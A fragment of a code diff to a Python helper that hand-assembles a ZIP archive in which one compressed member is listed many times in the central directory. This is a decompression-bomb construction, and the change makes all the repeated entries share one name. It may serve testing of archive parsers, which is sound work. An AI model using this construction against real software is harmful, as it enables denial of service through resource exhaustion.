@@ -43,13 +43,13 @@ def end_record(count: int, list_bytes: int, at: int) -> bytes:
 
 
 def overlapping(count: int, plain: bytes) -> bytes:
-    """One member listed many times under other names: what a few kB can be made to grow to."""
+    """One member listed many times: what a few kB can be made to grow to."""
     packer = zlib.compressobj(9, zlib.DEFLATED, -15)
     packed = packer.compress(plain) + packer.flush()
     sizes = zlib.crc32(plain), len(packed), len(plain)
     body = struct.pack(LOCAL, b"PK\3\4", 20, 0, 8, 0, 0, *sizes, 4, 0) + b"0000" + packed
     listed = b"".join(
-        struct.pack(CENTRAL, b"PK\1\2", 0x314, 20, 0, 8, 0, 0, *sizes, 4, 0, 0, 0, 0, 0, 0) + b"%04d" % k
+        struct.pack(CENTRAL, b"PK\1\2", 0x314, 20, 0, 8, 0, 0, *sizes, 4, 0, 0, 0, 0, 0, 0) + b"0000"
         for k in range(count)
     )
     return body + listed + end_record(count, len(listed), len(body))
